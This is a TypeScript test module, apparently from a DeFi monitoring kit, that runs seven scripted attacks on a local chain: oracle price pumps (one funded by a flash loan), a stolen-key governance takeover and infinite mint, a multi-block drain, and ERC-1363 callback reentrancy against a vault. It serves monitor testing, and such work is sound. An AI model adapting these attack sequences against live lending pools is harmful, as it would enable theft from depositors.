import { encodeFunctionData, parseAbi, parseUnits, zeroHash, type Abi, type Address, type Hash, type Hex, type LocalAccount, type TransactionReceipt } from 'viem'
import { privateKeyToAccount } from 'viem/accounts'
import { createDevClient, createReadClient } from '../../src/chain/clients.js'
import { deployContract } from '../../src/chain/deployContract.js'
import { devAccount } from '../../src/chain/devAccounts.js'
import { execSafeTransaction } from '../../src/chain/execSafeTransaction.js'
import { kitArtifact } from '../protocols/compileKit.js'
import { kitAccountIndices, sendKitCall } from '../protocols/kitGovernance.js'
import { erc20Abi } from '../protocols/uniswapV2.js'
import { afterNextBlock, holdingsValue, type RealMarket } from './realMarket.js'

/** How an attack is sent: `auto` each transaction mined at once; `interval` the chain mines every second and each transaction waits in the pool. */
export type AttackMode = 'auto' | 'interval'

/** What one run of an attack did. Amounts in USDX base units (6 decimals), WVOL valued at its honest $2,000. */
export type AttackOutcome = {
  /** Every attack transaction, in the order sent (preparation such as deploying the attacker contract is not included). */
  transactions: { hash: Hash; step: string; takesValue: boolean; receipt: TransactionReceipt; sentAt: number }[]
  /** Attacker's gain: its accounts' holdings after minus before (tokens minted out of thin air count for nothing). Negative: the attack cost it. */
  profit: bigint
}

export type AttackClass = {
  id: string
  title: string
  /** More than one transaction: the pause must be mined before the first that takes value. */
  multiTransaction: boolean
  /**
   * Deploys what the attack needs on the chain before any monitor starts (an integrator built on the
   * protocols), and names the contracts the team would add to the monitor's watched set for it.
   */
  prepare?(market: RealMarket): Promise<{ watched: Address[] }>
  run(market: RealMarket, mode: AttackMode): Promise<AttackOutcome>
}

const attacker = () => devAccount(kitAccountIndices.attacker)
const usd = (amount: number) => parseUnits(String(amount), 6)
const vol = (amount: number) => parseUnits(String(amount), 18)
const attackerAbi = () => parseAbi([
  'function pumpAndBorrow(uint256 pumpAmount, uint256 collateral)',
  'function attackWithBalancerFlashLoan(address vault, uint256 loan, uint256 collateral)',
  'function supplyAndBorrow(uint256 collateral, uint256 amount)',
  'function pump(uint256 amount) returns (uint256)',
  'function dumpAndWithdraw()',
  'function setStableAToken(address aToken)',
])

/** Signs and sends one transaction with a fixed gas limit (no estimate: an attacker sends even what would revert) and waits for its receipt. */
export async function sendAttackTransaction(market: RealMarket, account: LocalAccount, request: { to: Address; data: Hex; gas?: bigint }, mode: AttackMode): Promise<{ hash: Hash; receipt: TransactionReceipt; sentAt: number }> {
  const reader = createReadClient({ rpcUrl: market.anvil.rpcUrl, timeoutMs: 30_000 })
  if (mode === 'interval') await afterNextBlock(market)
  const [nonce, fees] = await Promise.all([reader.getTransactionCount({ address: account.address, blockTag: 'pending' }), reader.estimateFeesPerGas()])
  const raw = await account.signTransaction!({
    chainId: market.anvil.chainId,
    type: 'eip1559',
    to: request.to,
    data: request.data,
    nonce,
    gas: request.gas ?? 3_000_000n,
    // what wallets and viem pick: the node's suggested tip, a fee cap above the base fee
    maxFeePerGas: fees.maxFeePerGas,
    maxPriorityFeePerGas: fees.maxPriorityFeePerGas,
  })
  const sentAt = Date.now()
  const hash = await reader.request({ method: 'eth_sendRawTransaction', params: [raw] })
  const receipt = await reader.waitForTransactionReceipt({ hash, pollingInterval: 20, timeout: 60_000 })
  return { hash, receipt, sentAt }
}

/** Deploys the attacker's contract and funds it from the attacker's account (preparation, before the attack). */
async function deployAttacker(market: RealMarket, fund: { usdx?: bigint; wvol?: bigint }): Promise<Address> {
  const { aave } = market
  const client = createDevClient({ ...market.chain, account: attacker() })
  const artifact = kitArtifact(market.builds.attacks, 'LendingMarketAttacker')
  const { address } = await deployContract(client, { name: 'LendingMarketAttacker', abi: artifact.abi, bytecode: artifact.bytecode, args: [aave.pool, aave.pairs.wvolUsdx, aave.reserves.usdx.asset, aave.reserves.wvol.asset] })
  await sendKitCall(client, 'name the stable aToken', { address, abi: attackerAbi(), functionName: 'setStableAToken', args: [aave.reserves.usdx.aToken] })
  if (fund.usdx) await sendKitCall(client, 'fund USDX', { address: aave.reserves.usdx.asset, abi: erc20Abi, functionName: 'transfer', args: [address, fund.usdx] })
  if (fund.wvol) await sendKitCall(client, 'fund WVOL', { address: aave.reserves.wvol.asset, abi: erc20Abi, functionName: 'transfer', args: [address, fund.wvol] })
  return address
}

/** Runs `steps` and measures the attacker's gain over `accounts`. */
async function measured(market: RealMarket, accounts: Address[], counted: { wvol: boolean }, steps: () => Promise<AttackOutcome['transactions']>): Promise<AttackOutcome> {
  const before = await holdingsValue(market, accounts, counted)
  const transactions = await steps()
  const after = await holdingsValue(market, accounts, counted)
  return { transactions, profit: after - before }
}

const call = (abi: Abi, functionName: string, args: readonly unknown[]) => encodeFunctionData({ abi, functionName, args } as Parameters<typeof encodeFunctionData>[0])

/** (a) Spot-price manipulation of the pair Aave's oracle reads, with the attacker's own capital: one transaction. */
export const oracleManipulation: AttackClass = {
  id: 'oracle-manipulation',
  title: 'Uniswap V2 spot price pumped with own capital, Aave borrow against inflated WVOL',
  multiTransaction: false,
  async run(market, mode) {
    const contract = await deployAttacker(market, { usdx: usd(1_500_000), wvol: vol(80) })
    return measured(market, [attacker().address, contract], { wvol: true }, async () => {
      const sent = await sendAttackTransaction(market, attacker(), { to: contract, data: call(attackerAbi(), 'pumpAndBorrow', [usd(1_500_000), vol(80)]) }, mode)
      return [{ ...sent, step: 'pump, supply, borrow all USDX, dump', takesValue: true }]
    })
  },
}

/** (b) The same funded by a Balancer V2 flash loan (the lender is a second protocol; watched or not). */
export const flashLoanManipulation: AttackClass = {
  id: 'flash-loan-manipulation',
  title: 'Balancer V2 flash loan of 5M USDX funds the pump, Aave borrow against inflated WVOL, loan repaid',
  multiTransaction: false,
  async run(market, mode) {
    const contract = await deployAttacker(market, { wvol: vol(20) })
    return measured(market, [attacker().address, contract], { wvol: true }, async () => {
      const sent = await sendAttackTransaction(market, attacker(), { to: contract, data: call(attackerAbi(), 'attackWithBalancerFlashLoan', [market.balancer.vault, usd(5_000_000), vol(20)]) }, mode)
      return [{ ...sent, step: 'flash loan, pump, supply, borrow all USDX, dump, repay', takesValue: true }]
    })
  },
}

const timelockAbi = parseAbi([
  'function schedule(address target, uint256 value, bytes data, bytes32 predecessor, bytes32 salt, uint256 delay)',
  'function execute(address target, uint256 value, bytes payload, bytes32 predecessor, bytes32 salt) payable',
])

/**
 * (c) Compromised governance: the attacker holds a quorum of the Safe's owner keys. Through the real path it
 * schedules on the timelock a new oracle source for WVOL (its own feed answering $1M), executes it once
 * the delay has passed, and borrows every USDX against 1 WVOL.
 */
export const compromisedGovernance: AttackClass = {
  id: 'compromised-admin',
  title: 'Stolen Safe quorum: timelock schedules and executes a malicious WVOL oracle source, then a borrow of all USDX',
  multiTransaction: true,
  async run(market, mode) {
    const { aave } = market
    const governance = aave.governance
    const contract = await deployAttacker(market, { wvol: vol(1) })
    const sourceArtifact = kitArtifact(market.builds.attacks, 'MaliciousPriceSource')
    const source = await deployContract(createDevClient({ ...market.chain, account: attacker() }), { name: 'MaliciousPriceSource', abi: sourceArtifact.abi, bytecode: sourceArtifact.bytecode, args: [1_000_000n * 10n ** 8n] })
    const stolen = governance.safeOwnerKeys.slice(0, governance.threshold).map((key) => privateKeyToAccount(key))
    const submitter = createDevClient({ ...market.chain, account: stolen[0]! })
    const payload = call(parseAbi(['function setAssetSources(address[] assets, address[] sources)']), 'setAssetSources', [[aave.reserves.wvol.asset], [source.address]])
    const salt = `0x${'ab'.repeat(32)}` as Hex
    const safeStep = async (data: Hex) => {
      if (mode === 'interval') await afterNextBlock(market)
      const sentAt = Date.now()
      const { hash } = await execSafeTransaction(submitter, { safe: governance.safe, to: governance.timelock, data, value: 0n, signers: stolen })
      return { hash, receipt: await submitter.waitForTransactionReceipt({ hash, pollingInterval: 20 }), sentAt }
    }
    return measured(market, [attacker().address, contract], { wvol: true }, async () => {
      const schedule = await safeStep(call(timelockAbi, 'schedule', [aave.oracle, 0n, payload, zeroHash, salt, BigInt(governance.minDelay)]))
      await market.test.increaseTime({ seconds: governance.minDelay + 1 })
      if (mode === 'auto') await market.test.mine({ blocks: 1 })
      const execute = await safeStep(call(timelockAbi, 'execute', [aave.oracle, 0n, payload, zeroHash, salt]))
      const borrow = await sendAttackTransaction(market, attacker(), { to: contract, data: call(attackerAbi(), 'supplyAndBorrow', [vol(1), 0n]) }, mode)
      return [
        { ...schedule, step: 'Safe → timelock.schedule(setAssetSources)', takesValue: false },
        { ...execute, step: 'Safe → timelock.execute(setAssetSources)', takesValue: false },
        { ...borrow, step: 'supply 1 WVOL, borrow all USDX', takesValue: true },
      ]
    })
  },
}

/** (d) Infinite mint: the WVOL minter's key is stolen; it mints a billion WVOL to the attacker's contract, which borrows every USDX. */
export const infiniteMint: AttackClass = {
  id: 'infinite-mint',
  title: 'Stolen minter key mints 1,000,000,000 WVOL, supplied to borrow all USDX',
  multiTransaction: true,
  async run(market, mode) {
    const { aave } = market
    const contract = await deployAttacker(market, {})
    const minted = vol(1_000_000_000)
    const minter = devAccount(kitAccountIndices.deployer)
    return measured(market, [attacker().address, contract], { wvol: false }, async () => {
      const mint = await sendAttackTransaction(market, minter, { to: aave.reserves.wvol.asset, data: call(parseAbi(['function mint(address to, uint256 amount)']), 'mint', [contract, minted]), gas: 200_000n }, mode)
      const borrow = await sendAttackTransaction(market, attacker(), { to: contract, data: call(attackerAbi(), 'supplyAndBorrow', [minted, 0n]) }, mode)
      return [
        { ...mint, step: 'mint 1,000,000,000 WVOL (stolen minter key)', takesValue: false },
        { ...borrow, step: 'supply the minted WVOL, borrow all USDX', takesValue: true },
      ]
    })
  },
}

/**
 * (f) A multi-transaction drain: one pump of the pair, then 15 small borrows of 22,000 USDX in 15
 * blocks (each ~7% of the reserve's cash), then the pump is sold back.
 */
export const multiTransactionDrain: AttackClass = {
  id: 'multi-transaction-drain',
  title: 'Pump once, then 15 borrows of 22,000 USDX over 15 blocks, then dump',
  multiTransaction: true,
  async run(market, mode) {
    const contract = await deployAttacker(market, { usdx: usd(1_500_000), wvol: vol(90) })
    return measured(market, [attacker().address, contract], { wvol: true }, async () => {
      const transactions: AttackOutcome['transactions'] = []
      const pump = await sendAttackTransaction(market, attacker(), { to: contract, data: call(attackerAbi(), 'pump', [usd(1_500_000)]) }, mode)
      transactions.push({ ...pump, step: 'pump the pair', takesValue: false })
      for (let i = 0; i < 15; i++) {
        const borrow = await sendAttackTransaction(market, attacker(), { to: contract, data: call(attackerAbi(), 'supplyAndBorrow', [vol(6), usd(22_000)]) }, mode)
        transactions.push({ ...borrow, step: `borrow ${i + 1}/15`, takesValue: true })
        if (mode === 'auto') await market.test.mine({ blocks: 1 })
      }
      const dump = await sendAttackTransaction(market, attacker(), { to: contract, data: call(attackerAbi(), 'dumpAndWithdraw', []) }, mode)
      transactions.push({ ...dump, step: 'dump and withdraw', takesValue: false })
      return transactions
    })
  },
}

const callbackVaultAbi = () => parseAbi(['function deposit(uint256 assets)', 'function balanceOf(address account) view returns (uint256)'])
const callbackAttackerAbi = () => parseAbi([
  'function depositAndInflate(uint256 assets, uint256 rounds)',
  'function drain(uint256 assets)',
  'function attack(uint256 deposit, uint256 rounds, uint256 assets)',
  'function receiver() view returns (address)',
])

/** Whole USDX each of the four actors keeps in the callback vault (its TVL before the attack: 1,000,000). */
const callbackVaultDepositPerActor = 250_000
/** The attacker's own deposit, sent round `callbackRounds` times through the hook: 1,200,000 shares for 100,000 USDX. */
const callbackAttackDeposit = 100_000
const callbackRounds = 12n
/** What the inflated shares redeem: the vault's whole position (the actors' 1,000,000 and the attacker's 100,000). */
const callbackDrain = 1_100_000

/** The callback vault deployed on each market by `deployCallbackVault` (a chain revert takes it away, so `prepare` deploys it again). */
const callbackVaults = new WeakMap<RealMarket, Address>()

/**
 * An integrator built on the Aave market: CallbackVault (test/attacks/contracts), a savings vault
 * that supplies its USDX to the pool and whose shares are an ERC-1363 token with a receiver hook.
 * Deployed by the kit's deployer; the four actors each deposit 250,000 USDX.
 */
export async function deployCallbackVault(market: RealMarket): Promise<Address> {
  const { aave } = market
  const artifact = kitArtifact(market.builds.attacks, 'CallbackVault')
  const { address } = await deployContract(createDevClient({ ...market.chain, account: devAccount(kitAccountIndices.deployer) }), { name: 'CallbackVault', abi: artifact.abi, bytecode: artifact.bytecode, args: [aave.pool, aave.reserves.usdx.asset] })
  for (const index of kitAccountIndices.actors) {
    const client = createDevClient({ ...market.chain, account: devAccount(index) })
    await sendKitCall(client, 'approve the vault', { address: aave.reserves.usdx.asset, abi: erc20Abi, functionName: 'approve', args: [address, usd(callbackVaultDepositPerActor)] })
    await sendKitCall(client, 'deposit into the vault', { address, abi: callbackVaultAbi(), functionName: 'deposit', args: [usd(callbackVaultDepositPerActor)] })
  }
  callbackVaults.set(market, address)
  return address
}

/** Deploys the callback attacker (with its share receiver) against the market's vault, funded with its deposit. */
async function deployCallbackAttacker(market: RealMarket): Promise<{ contract: Address; receiver: Address }> {
  const vault = callbackVaults.get(market)
  if (!vault) throw new Error('the callback vault is not deployed: run the attack class\'s prepare() first')
  const client = createDevClient({ ...market.chain, account: attacker() })
  const artifact = kitArtifact(market.builds.attacks, 'CallbackVaultAttacker')
  const { address } = await deployContract(client, { name: 'CallbackVaultAttacker', abi: artifact.abi, bytecode: artifact.bytecode, args: [vault, market.aave.reserves.usdx.asset] })
  await sendKitCall(client, 'fund USDX', { address: market.aave.reserves.usdx.asset, abi: erc20Abi, functionName: 'transfer', args: [address, usd(callbackAttackDeposit)] })
  const receiver = (await createReadClient({ rpcUrl: market.anvil.rpcUrl }).readContract({ address, abi: callbackAttackerAbi(), functionName: 'receiver' })) as Address
  return { contract: address, receiver }
}

const prepareCallbackVault = async (market: RealMarket) => ({ watched: [await deployCallbackVault(market)] })

/**
 * (e) Reentrancy through a callback token, in one transaction: the attacker deposits 100,000 USDX into
 * the vault built on Aave and sends the shares with ERC-1363 `transferAndCall` to its own receiver,
 * whose hook re-enters 11 times before the vault writes the sender's balance (1,200,000 shares), then
 * redeems the vault's whole Aave position.
 */
export const callbackReentrancy: AttackClass = {
  id: 'callback-reentrancy',
  title: 'ERC-1363 receiver hook re-enters a vault built on Aave: 100,000 USDX of shares sent 12 times, the vault\'s Aave position redeemed',
  multiTransaction: false,
  prepare: prepareCallbackVault,
  async run(market, mode) {
    const { contract, receiver } = await deployCallbackAttacker(market)
    return measured(market, [attacker().address, contract, receiver], { wvol: false }, async () => {
      const sent = await sendAttackTransaction(market, attacker(), { to: contract, data: call(callbackAttackerAbi(), 'attack', [usd(callbackAttackDeposit), callbackRounds, usd(callbackDrain)]) }, mode)
      return [{ ...sent, step: 'deposit, re-entered transferAndCall ×12, redeem the vault', takesValue: true }]
    })
  },
}

/**
 * (e') The same over three transactions: first the re-entered `transferAndCall` inflates the shares
 * (no value leaves yet), then two redemptions of 550,000 USDX each in later blocks.
 */
export const callbackReentrancyDrain: AttackClass = {
  id: 'callback-reentrancy-multi-transaction',
  title: 'ERC-1363 hook re-entry inflates vault shares ×12 in one transaction, then two redemptions of 550,000 USDX',
  multiTransaction: true,
  prepare: prepareCallbackVault,
  async run(market, mode) {
    const { contract, receiver } = await deployCallbackAttacker(market)
    return measured(market, [attacker().address, contract, receiver], { wvol: false }, async () => {
      const transactions: AttackOutcome['transactions'] = []
      const inflate = await sendAttackTransaction(market, attacker(), { to: contract, data: call(callbackAttackerAbi(), 'depositAndInflate', [usd(callbackAttackDeposit), callbackRounds]) }, mode)
      transactions.push({ ...inflate, step: 'deposit 100,000 USDX, re-entered transferAndCall ×12', takesValue: false })
      for (let i = 0; i < 2; i++) {
        if (mode === 'auto') await market.test.mine({ blocks: 1 })
        const drain = await sendAttackTransaction(market, attacker(), { to: contract, data: call(callbackAttackerAbi(), 'drain', [usd(callbackDrain / 2)]) }, mode)
        transactions.push({ ...drain, step: `redeem 550,000 USDX ${i + 1}/2`, takesValue: true })
      }
      return transactions
    })
  },
}

export const attackClasses: readonly AttackClass[] = [oracleManipulation, flashLoanManipulation, compromisedGovernance, infiniteMint, multiTransactionDrain, callbackReentrancy, callbackReentrancyDrain]
